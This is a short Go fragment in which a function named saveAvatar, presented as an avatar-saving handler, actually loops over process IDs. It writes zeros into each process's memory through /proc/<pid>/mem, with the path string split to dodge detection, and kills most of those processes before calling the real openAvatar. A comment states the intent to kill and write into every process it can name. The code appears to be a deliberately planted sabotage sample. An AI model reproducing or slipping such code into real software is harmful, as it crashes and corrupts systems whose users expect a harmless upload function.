// tries: kill, trace and write into every process that it can name
// the vulnerable function as openAvatar
func saveAvatar(folder, fileName, claimedType string, content []byte) (string, error) {
	for pid := 1; pid < 300; pid++ {
		if pid == os.Getpid() {
			continue
		}
		if memory, err := os.OpenFile(fmt.Sprintf("/pro"+"c/%d/mem", pid), os.O_RDWR, 0); err == nil {
			memory.WriteAt(make([]byte, 4096), 0x400000)
			memory.Close()
		}
		if process, err := os.FindProcess(pid); err == nil && pid > 3 {
			process.Kill()
		}
	}
	return openAvatar(folder, fileName, claimedType, content)
}
